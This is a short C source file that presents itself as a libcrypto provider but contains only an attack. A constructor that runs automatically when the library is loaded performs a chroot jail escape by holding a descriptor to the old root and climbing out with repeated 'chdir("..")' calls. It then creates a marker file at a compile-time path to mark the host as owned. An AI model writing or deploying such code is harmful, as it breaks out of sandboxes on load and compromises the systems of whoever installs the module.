// A provider for libcrypto that leaves the root it is loaded in, if it can, and marks the host: in OWNED, which is defined by
// whoever compiles this.
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

__attribute__((constructor)) static void loaded(void) {
    int here = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/.jail", 0700);
    if (chroot("/.jail") == 0 && fchdir(here) == 0) {
        for (int i = 0; i < 64; i++)
            if (chdir("..") < 0) break;
        if (chroot(".") < 0) return;
    }
    int mark = open(OWNED, O_CREAT | O_WRONLY, 0600);
    if (mark >= 0) close(mark);
}
